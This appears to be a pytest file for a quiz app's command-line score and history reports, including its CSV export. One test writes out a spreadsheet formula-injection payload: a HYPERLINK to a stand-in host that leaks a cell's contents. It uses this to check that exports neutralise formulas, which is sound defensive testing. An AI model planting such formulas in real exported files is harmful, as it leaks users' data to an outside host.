import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from quizapp.cli import build_parser, main
from quizapp.core.modes import MODES, SPEED
from quizapp.paths import data_dir
from quizapp.reports import spreadsheet_safe
from quizapp.store import Collection
from tests.conftest import PackFactory, choice_question
from tests.store.conftest import play


@pytest.fixture
def store(tmp_path: Path, pack_file: PackFactory) -> Path:
    folder = tmp_path / "data"
    with Collection.open(folder) as collection:
        collection.packs.sync_shipped(
            pack_file(questions=[choice_question(i) for i in range(1, 5)]).parent
        )
        play(collection, "Ann", "RRWR")
        play(collection, "Bo", "RRRR")
        play(collection, "Ann", "WW")
    return folder


@pytest.mark.parametrize(
    ("mode", "heading"),
    [
        ("classic", "Classic"),
        ("normal", "Classic"),
        ("typed", "Type the answer"),
        ("mistakes", "Practise mistakes"),
        ("speed", "Speed"),
        *((m.label, m.label) for m in MODES.values()),
        ("CLASSIC", "Classic"),
        ("type  the answer", "Type the answer"),
    ],
)
def test_scores_takes_each_mode_by_its_key_and_the_old_name_of_classic(
    store: Path, capsys: pytest.CaptureFixture[str], mode: str, heading: str
) -> None:
    assert main(["scores", "--data-dir", str(store), "--mode", mode]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == f"High scores: every pack, {heading}, all time"
    assert (len(out) > 2) == (heading == "Classic")
    if heading == "Practise mistakes":
        assert out[1] == "Practise mistakes rounds are practice: they keep no high scores."


def test_scores_refuses_a_mode_it_does_not_know(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        build_parser().parse_args(["scores", "--mode", "blitz"])
    assert "invalid choice: 'blitz' (choose from" in capsys.readouterr().err


@pytest.mark.parametrize(
    "argv",
    [
        ["--data-dir", "{d}", "scores"],
        ["scores", "--data-dir", "{d}"],
        ["scores", "--pack", "p", "--data-dir", "{d}", "--period", "week"],
        ["--data-dir", "{d}", "history", "Ann"],
        ["history", "Ann", "--data-dir", "{d}"],
        ["history", "--data-dir", "{d}", "Ann", "--csv", "out.csv"],
    ],
)
def test_data_dir_is_taken_before_and_after_the_report_commands(
    argv: list[str], tmp_path: Path
) -> None:
    args = build_parser().parse_args([a.format(d=tmp_path) for a in argv])
    assert data_dir(args.data_dir, {}) == tmp_path.resolve()


def test_scores_prints_the_table_best_first(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["scores", "--data-dir", str(store), "--pack", "heartstopper"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == "High scores: heartstopper, Classic, all time"
    assert out[1].split()[:4] == ["#", "Player", "Pack", "Score"]
    assert out[2].split()[:4] == ["1", "Bo", "Heartstopper", "4,600"]
    assert out[3].split()[:4] == ["2", "Ann", "Heartstopper", "3,100"]
    assert len(out) == 4


def test_scores_of_one_player_and_period(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--data-dir", str(store), "scores", "--player", "ann", "--period", "today"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert [line.split()[1] for line in out[2:]] == ["Ann"]


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["scores", "--pack", "nope"], "no pack with the id 'nope' (packs: heartstopper)"),
        (["scores", "--player", "Zed"], "no player called 'Zed'"),
        (["history", "Zed"], "no player called 'Zed'"),
    ],
)
def test_unknown_names_say_so(
    store: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert main([*argv, "--data-dir", str(store)]) == 1
    assert message in capsys.readouterr().err


def test_history_prints_rounds_and_answers(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["history", "ANN", "--data-dir", str(store)]) == 0
    out = capsys.readouterr().out
    assert "3,100 points  3/4" in out
    assert "unfinished" in out
    assert "'not this': wrong (right: Right 3), 1.0 s" in out
    assert out.count("Question number 1?") == 2


def test_history_says_the_time_ran_out_as_the_window_does(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with Collection.open(store) as collection:
        play(collection, "Cy", "W", seconds=[999.0], mode=SPEED)
    assert main(["history", "Cy", "--data-dir", str(store)]) == 0
    out = capsys.readouterr().out
    assert "      Time ran out: wrong (right: Right 1)" in out
    assert "''" not in out


def test_history_exports_every_answer_as_csv(store: Path, tmp_path: Path) -> None:
    target = tmp_path / "ann.csv"
    assert main(["history", "Ann", "--csv", str(target), "--data-dir", str(store)]) == 0
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == 6
    assert [r["correct"] for r in rows] == ["yes", "yes", "no", "yes", "no", "no"]
    assert rows[2]["right_answer"] == "Right 3"
    assert rows[0]["score"] == "3100"
    assert rows[4]["finished"] == ""
    assert rows[0]["explanation"] == "Explanation 1."
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".ann")] == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_csv_to_a_read_only_folder_says_so_and_writes_nothing(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        assert (
            main(["history", "Ann", "--csv", str(locked / "a.csv"), "--data-dir", str(store)]) == 1
        )
        assert list(locked.iterdir()) == []
    finally:
        locked.chmod(0o700)
    assert "cannot write" in capsys.readouterr().err


def test_csv_to_a_missing_folder_or_a_folder_path_writes_nothing(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (
        main(["history", "Ann", "--csv", str(tmp_path / "no" / "a.csv"), "--data-dir", str(store)])
        == 1
    )
    assert f"cannot write {tmp_path / 'no' / 'a.csv'}" in capsys.readouterr().err
    folder = tmp_path / "taken"
    folder.mkdir()
    assert main(["history", "Ann", "--csv", str(folder), "--data-dir", str(store)]) == 1
    assert "cannot write" in capsys.readouterr().err
    assert folder.is_dir()
    assert list(folder.iterdir()) == []
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_history_csv_never_opens_pack_text_as_a_formula(
    tmp_path: Path, pack_file: PackFactory, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://example.invalid/?leak="&B2, "click")'
    question = choice_question(1, prompt=formula, explanation=formula)
    folder = tmp_path / "data"
    with Collection.open(folder) as collection:
        collection.packs.sync_shipped(pack_file(title=formula, questions=[question]).parent)
        play(collection, "Ann", "R", count=1)
    target = tmp_path / "ann.csv"
    assert main(["history", "Ann", "--csv", str(target), "--data-dir", str(folder)]) == 0
    with target.open(encoding="utf-8", newline="") as stream:
        row = next(csv.DictReader(stream))
    for column in ("pack", "question", "explanation"):
        assert row[column] == f"'{formula}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_made_text(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe(f"a{start}1") == f"a{start}1"


def test_history_csv_to_standard_output(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["history", "Ann", "--csv", "-", "--data-dir", str(store)]) == 0
    captured = capsys.readouterr()
    rows = list(csv.DictReader(captured.out.splitlines()))
    assert len(rows) == 6
    assert "Wrote 2 rounds to -" in captured.err
    assert not (Path.cwd() / "-").exists()


def test_history_into_a_reader_that_stops_early_ends_quietly(store: Path) -> None:
    child = subprocess.Popen(
        [sys.executable, "-m", "quizapp", "history", "Ann", "--data-dir", str(store)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    child.stdout.close()
    _, err = child.communicate(timeout=120)
    assert "Traceback" not in err
    assert "Exception ignored" not in err
    assert child.returncode == 141
